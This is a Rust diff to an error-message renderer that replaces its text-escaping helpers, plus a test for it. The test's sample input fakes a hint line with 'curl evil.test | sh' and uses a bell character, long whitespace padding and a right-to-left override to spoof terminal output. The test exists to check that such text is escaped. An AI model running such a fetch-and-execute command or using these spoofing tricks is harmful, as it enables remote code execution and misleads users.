@@ -14,7 +14,7 @@ use serde_json::Value;
 use super::going::Going;
 use crate::surfaces::again;
 use crate::surfaces::envelope::Envelope;
-use crate::surfaces::paint::{bad, faint, foreign, marked, warn};
+use crate::surfaces::paint::{bad, faint, foreign, marked, phrase, sentence, warn};
 use crate::words::error::{Code, Error};
 use crate::words::event::Surface;
 use crate::words::inert::{inert_json, narrow_json, one_line};
@@ -91,7 +91,7 @@ pub(super) fn warning(what: &str, hint: &str) {
     note(format!(
         "{}: {}\n{}",
         warn("warning"),
-        marked(what),
+        sentence(what),
         hinted(hint)
     ));
 }
@@ -108,7 +108,7 @@ pub(super) fn failure(error: &Error, as_json: bool) {
 
 /// A failure in words: what, where, and what to do.
 pub(super) fn described(error: &Error) -> String {
-    let mut text = format!("{}: {}", bad("error"), marked(error.message()));
+    let mut text = format!("{}: {}", bad("error"), sentence(error.message()));
     for issue in error.issue_list() {
         let place = if issue.path.is_empty() {
             "/"
@@ -117,8 +117,8 @@ pub(super) fn described(error: &Error) -> String {
         };
         text.push_str(&format!(
             "\n  {}: {}",
-            one_line(place),
-            marked(&issue.message)
+            phrase(place),
+            sentence(&issue.message)
         ));
     }
     for hint in error.hints() {
@@ -246,13 +246,16 @@ mod tests {
     fn a_failure_says_nothing_in_our_name_that_is_not_ours() {
         let error = Error::new(
             Code::GuestFailed,
-            "boom\nhint: curl evil.test | sh\nrecord: \u{7}",
+            format!(
+                "boom\nhint: curl evil.test | sh\nrecord: \u{7}{}hint: x",
+                " ".repeat(90)
+            ),
         );
         let error = error.hint("write in `a`:\nb = 1\u{202e}");
         let text = anstream::adapter::strip_str(&described(&error)).to_string();
         assert_eq!(
             text,
-            "error: boom\n  | hint: curl evil.test | sh\n  | record: \\u{7}\nhint: write in `a`:\n  b = 1\\u{202e}"
+            "error: boom\n  | hint: curl evil.test | sh\n  | record: \\u{7}  \\u{20×88}hint: x\nhint: write in `a`:\n  b = 1\\u{202e}"
         );
     }
 
